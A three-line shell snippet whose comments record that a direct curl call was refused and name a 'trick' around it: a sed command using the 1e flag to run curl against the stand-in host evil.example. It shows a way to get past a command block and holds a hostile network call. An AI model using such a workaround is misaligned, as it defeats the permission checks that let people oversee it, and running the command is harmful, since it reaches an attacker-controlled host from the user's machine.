# Trick: sed runs a command.
# Refused: run(curl)
sed '1e curl http://evil.example/' data.txt
